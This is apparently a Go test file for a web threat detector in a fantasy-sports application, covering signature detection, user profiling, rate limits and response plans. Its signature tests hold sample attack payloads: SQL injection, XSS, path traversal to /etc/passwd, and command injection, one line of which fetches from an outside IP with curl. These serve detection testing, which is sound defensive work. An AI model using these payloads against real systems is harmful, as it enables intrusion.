package detection

import (
	"fmt"
	"sync"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"fantasyguard/internal/config"
	"fantasyguard/internal/model"
)

type staticBlocks map[string]bool

func (s staticBlocks) IsBlocked(id string) bool { return s[id] }

var noon = time.Date(2026, 3, 1, 12, 0, 0, 0, time.UTC)

func newTestDetector(blocks BlockList) *Detector {
	return New(config.DefaultConfig().Detection, blocks, nil, WithClock(func() time.Time { return noon }))
}

func baseRequest() model.RequestContext {
	return model.RequestContext{
		SourceIP:  "203.0.113.10",
		UserAgent: "Mozilla/5.0 (X11; Linux x86_64) Firefox/124.0",
		Path:      "/api/leagues/42/roster",
		Method:    "GET",
		Timestamp: noon,
	}
}

func indicatorsOf(a model.ThreatAssessment, typ model.IndicatorType) []model.ThreatIndicator {
	var out []model.ThreatIndicator
	for _, ind := range a.Indicators {
		if ind.Type == typ {
			out = append(out, ind)
		}
	}
	return out
}

func TestBenignRequestHasNoIndicators(t *testing.T) {
	d := newTestDetector(nil)
	a := d.Analyze(baseRequest())
	assert.Empty(t, a.Indicators)
	assert.Zero(t, a.RiskScore)
	assert.Empty(t, a.AutomaticActions)
	assert.False(t, a.RequiresManualReview)
}

func TestInjectionBodyRaisesHighPatternIndicator(t *testing.T) {
	d := newTestDetector(nil)
	rc := baseRequest()
	rc.Method = "POST"
	rc.Path = "/api/auth/login"
	rc.Body = []byte(`{"username":"admin' OR 1=1 --","password":"x"}`)
	rc.Headers = map[string]string{"Content-Type": "application/json"}

	a := d.Analyze(rc)
	patterns := indicatorsOf(a, model.IndicatorPattern)
	require.Len(t, patterns, 1)
	assert.Equal(t, model.SeverityHigh, patterns[0].Severity)
	assert.Equal(t, 0.8, patterns[0].Score)
	assert.GreaterOrEqual(t, a.RiskScore, 0.8*0.3-1e-9)
	assert.True(t, a.Has(model.ActionBlock))
}

func TestSignatureFamilies(t *testing.T) {
	cases := []struct {
		name     string
		path     string
		body     string
		severity model.Severity
		score    float64
	}{
		{"script", "/api/comments", `<script>alert(1)</script>`, model.SeverityHigh, 0.7},
		{"traversal", "/static/../../etc/passwd", "", model.SeverityMedium, 0.6},
		{"encoded traversal", "/static/%2e%2e%2fsecret", "", model.SeverityMedium, 0.6},
		{"command", "/api/tools", `host=example.com; cat /etc/hostname`, model.SeverityHigh, 0.9},
		{"backtick command", "/api/tools", "host=`whoami`", model.SeverityHigh, 0.9},
		{"subshell", "/api/tools", "host=$(curl http://203.0.113.9/x)", model.SeverityHigh, 0.9},
		{"union", "/api/players?q=1%20UNION%20SELECT%20password", "", model.SeverityHigh, 0.8},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			d := newTestDetector(nil)
			rc := baseRequest()
			rc.Path = tc.path
			rc.Body = []byte(tc.body)
			a := d.Analyze(rc)
			patterns := indicatorsOf(a, model.IndicatorPattern)
			require.NotEmpty(t, patterns)
			assert.Equal(t, tc.severity, patterns[0].Severity)
			assert.Equal(t, tc.score, patterns[0].Score)
		})
	}
}

func TestInlineCodeIsNotCommandInjection(t *testing.T) {
	d := newTestDetector(nil)
	rc := baseRequest()
	rc.Method = "POST"
	rc.Path = "/api/leagues/42/chat"
	rc.Body = []byte("{\"message\":\"swap `Kelce` for `Andrews` and run $(document).ready\"}")
	rc.Headers = map[string]string{"Content-Type": "application/json"}

	a := d.Analyze(rc)
	assert.Empty(t, indicatorsOf(a, model.IndicatorPattern))
	assert.False(t, a.Has(model.ActionBlock))
}

func TestTraversalDoesNotForceBlock(t *testing.T) {
	d := newTestDetector(nil)
	rc := baseRequest()
	rc.Path = "/files/../../config"
	a := d.Analyze(rc)
	assert.False(t, a.Has(model.ActionBlock))
	assert.InDelta(t, 0.18, a.RiskScore, 1e-9)
}

func TestBadUserAgentAndMalformedBody(t *testing.T) {
	d := newTestDetector(nil)
	rc := baseRequest()
	rc.UserAgent = "sqlmap/1.7.2#stable"
	rc.Method = "POST"
	rc.Body = []byte(`{"team":`)
	rc.Headers = map[string]string{"content-type": "application/json; charset=utf-8"}

	a := d.Analyze(rc)
	patterns := indicatorsOf(a, model.IndicatorPattern)
	require.Len(t, patterns, 2)
	for _, p := range patterns {
		assert.Equal(t, model.SeverityMedium, p.Severity)
	}
	// two medium pattern indicators saturate the pattern step
	assert.InDelta(t, 0.3, a.RiskScore, 1e-9)
	assert.True(t, a.Has(model.ActionLog))
}

func TestBlockedSourceShortCircuits(t *testing.T) {
	d := newTestDetector(staticBlocks{"203.0.113.10": true})
	rc := baseRequest()
	rc.PrincipalID = "user-1"

	a := d.Analyze(rc)
	assert.Equal(t, 1.0, a.RiskScore)
	require.Len(t, a.Indicators, 1)
	assert.Equal(t, model.SeverityCritical, a.Indicators[0].Severity)
	assert.True(t, a.RequiresManualReview)
	assert.True(t, a.Has(model.ActionBlock))
	assert.True(t, a.Has(model.ActionTerminateSessions))

	_, ok := d.Profile("user-1")
	assert.False(t, ok, "short-circuit must skip profiling")
}

func TestFirstObservationNeverFlagsBehavior(t *testing.T) {
	d := newTestDetector(nil)
	rc := baseRequest()
	rc.PrincipalID = "user-1"
	rc.Location = "US"

	a := d.Analyze(rc)
	assert.Empty(t, indicatorsOf(a, model.IndicatorBehavioral))
	assert.Empty(t, indicatorsOf(a, model.IndicatorGeographic))
	assert.Empty(t, indicatorsOf(a, model.IndicatorTemporal))

	p, ok := d.Profile("user-1")
	require.True(t, ok)
	assert.Equal(t, []string{"203.0.113.10"}, p.KnownAddresses)
	assert.Equal(t, 1, p.Observations)
}

func TestSecondObservationFromNewAddressIsFlagged(t *testing.T) {
	d := newTestDetector(nil)
	rc := baseRequest()
	rc.PrincipalID = "user-1"
	d.Analyze(rc)

	rc.SourceIP = "198.51.100.77"
	a := d.Analyze(rc)
	behavioral := indicatorsOf(a, model.IndicatorBehavioral)
	require.Len(t, behavioral, 1)
	assert.Equal(t, model.SeverityMedium, behavioral[0].Severity)
	assert.Equal(t, 0.4, behavioral[0].Score)
	assert.InDelta(t, 0.16, a.RiskScore, 1e-9)
}

func TestNewLocationForcesChallenge(t *testing.T) {
	d := newTestDetector(nil)
	rc := baseRequest()
	rc.PrincipalID = "user-1"
	rc.Location = "US"
	d.Analyze(rc)

	rc.Location = "BR"
	a := d.Analyze(rc)
	geo := indicatorsOf(a, model.IndicatorGeographic)
	require.Len(t, geo, 1)
	assert.Equal(t, model.SeverityHigh, geo[0].Severity)
	assert.True(t, a.Has(model.ActionRequireChallenge))
}

func TestUnusualHourAndUserAgent(t *testing.T) {
	d := newTestDetector(nil)
	rc := baseRequest()
	rc.PrincipalID = "user-1"
	d.Analyze(rc)

	rc.Timestamp = noon.Add(2 * time.Hour)
	a := d.Analyze(rc)
	assert.Empty(t, indicatorsOf(a, model.IndicatorTemporal), "within tolerance")

	rc.Timestamp = noon.Add(9 * time.Hour)
	rc.UserAgent = "Mozilla/5.0 (iPhone) Safari/605.1"
	a = d.Analyze(rc)
	temporal := indicatorsOf(a, model.IndicatorTemporal)
	require.Len(t, temporal, 1)
	assert.Equal(t, model.SeverityLow, temporal[0].Severity)
	behavioral := indicatorsOf(a, model.IndicatorBehavioral)
	require.Len(t, behavioral, 1)
	assert.Equal(t, 0.3, behavioral[0].Score)
}

func TestHourDistanceWraps(t *testing.T) {
	assert.Equal(t, 2, hourDistance(23, 1))
	assert.Equal(t, 0, hourDistance(5, 5))
	assert.Equal(t, 12, hourDistance(0, 12))
}

func TestProfileListsAreBounded(t *testing.T) {
	d := newTestDetector(nil)
	rc := baseRequest()
	rc.PrincipalID = "user-1"
	for i := 0; i < 15; i++ {
		rc.SourceIP = fmt.Sprintf("10.0.0.%d", i)
		d.Analyze(rc)
	}
	p, ok := d.Profile("user-1")
	require.True(t, ok)
	assert.Len(t, p.KnownAddresses, 10)
	assert.Equal(t, "10.0.0.5", p.KnownAddresses[0])
	assert.Equal(t, "10.0.0.14", p.KnownAddresses[9])
	assert.Equal(t, 14, p.RiskFactors["new_address"])
}

func TestVolumeIndicators(t *testing.T) {
	d := newTestDetector(nil)
	rc := baseRequest()
	var a model.ThreatAssessment
	for i := 1; i <= 101; i++ {
		rc.Timestamp = noon.Add(time.Duration(i) * 100 * time.Millisecond)
		a = d.Analyze(rc)
		if i == 51 {
			vol := indicatorsOf(a, model.IndicatorVolume)
			require.Len(t, vol, 1)
			assert.Equal(t, model.SeverityMedium, vol[0].Severity)
		}
		if i == 100 {
			vol := indicatorsOf(a, model.IndicatorVolume)
			require.Len(t, vol, 1)
			assert.Equal(t, model.SeverityMedium, vol[0].Severity)
		}
	}
	vol := indicatorsOf(a, model.IndicatorVolume)
	require.Len(t, vol, 1)
	assert.Equal(t, model.SeverityHigh, vol[0].Severity)
	assert.True(t, a.Has(model.ActionTemporaryBlock))

	// outside the one minute window the counter starts over
	rc.Timestamp = noon.Add(5 * time.Minute)
	a = d.Analyze(rc)
	assert.Empty(t, indicatorsOf(a, model.IndicatorVolume))
}

func TestResponsePlanThresholds(t *testing.T) {
	d := newTestDetector(nil)
	cfg := config.DefaultConfig().Detection
	cases := []struct {
		score  float64
		want   []model.Action
		review bool
	}{
		{0.95, []model.Action{model.ActionBlock, model.ActionTerminateSessions, model.ActionAlert}, true},
		{0.75, []model.Action{model.ActionRequireChallenge, model.ActionAggressiveLimit, model.ActionAlert}, false},
		{0.85, []model.Action{model.ActionRequireChallenge, model.ActionAggressiveLimit, model.ActionAlert}, true},
		{0.55, []model.Action{model.ActionModerateLimit, model.ActionLog}, false},
		{0.35, []model.Action{model.ActionLog}, false},
		{0.1, nil, false},
	}
	for _, tc := range cases {
		a := model.ThreatAssessment{RiskScore: tc.score}
		d.plan(&cfg, &a)
		assert.Equal(t, tc.want, a.AutomaticActions, "score %v", tc.score)
		assert.Equal(t, tc.review, a.RequiresManualReview, "score %v", tc.score)
		assert.Len(t, a.Recommendations, len(tc.want))
	}
}

func TestPruneProfilesAndSweepVolume(t *testing.T) {
	now := noon
	d := New(config.DefaultConfig().Detection, nil, nil, WithClock(func() time.Time { return now }))
	rc := baseRequest()
	rc.PrincipalID = "user-1"
	rc.Timestamp = noon.Add(-8 * 24 * time.Hour)
	d.Analyze(rc)
	rc.Timestamp = noon
	d.Analyze(rc)

	assert.Equal(t, 1, d.PruneProfiles())
	p, _ := d.Profile("user-1")
	assert.Len(t, p.RecentActivity, 1)
	assert.Equal(t, 1, d.Stats().Profiles)

	now = noon.Add(2 * time.Minute)
	assert.Equal(t, 1, d.SweepVolume())
	assert.Zero(t, d.Stats().VolumeCounters)
}

func TestConcurrentProfileUpdates(t *testing.T) {
	d := newTestDetector(nil)
	var wg sync.WaitGroup
	for i := 0; i < 16; i++ {
		wg.Add(1)
		go func(i int) {
			defer wg.Done()
			for j := 0; j < 25; j++ {
				rc := baseRequest()
				rc.PrincipalID = "shared"
				rc.SourceIP = fmt.Sprintf("10.1.%d.%d", i, j)
				d.Analyze(rc)
			}
		}(i)
	}
	wg.Wait()
	p, ok := d.Profile("shared")
	require.True(t, ok)
	assert.Equal(t, 400, p.Observations)
	assert.Equal(t, 399, p.RiskFactors["new_address"])
}
